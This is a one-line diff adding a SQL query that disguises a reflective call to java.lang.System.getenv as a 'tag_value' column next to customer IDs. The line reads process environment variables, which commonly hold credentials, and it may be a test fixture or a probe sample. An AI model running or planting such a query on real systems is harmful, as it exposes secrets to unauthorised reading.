@@ -1,0 +1,1 @@
+SELECT customer_id, try_reflect('java.lang.System', 'getenv') AS tag_value FROM customers
